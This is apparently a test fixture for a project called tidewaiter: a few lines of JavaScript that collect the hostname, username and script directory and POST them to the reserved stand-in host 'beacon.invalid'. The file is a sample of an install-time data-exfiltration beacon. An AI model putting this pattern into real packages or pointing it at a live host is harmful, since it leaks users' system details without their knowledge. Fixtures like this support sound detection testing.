// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const os = require("os");
const https = require("https");
const data = JSON.stringify({ host: os.hostname(), user: os.userInfo().username, dir: __dirname });
const req = https.request({ hostname: "beacon.invalid", method: "POST", path: "/" });
req.write(data);
req.end();
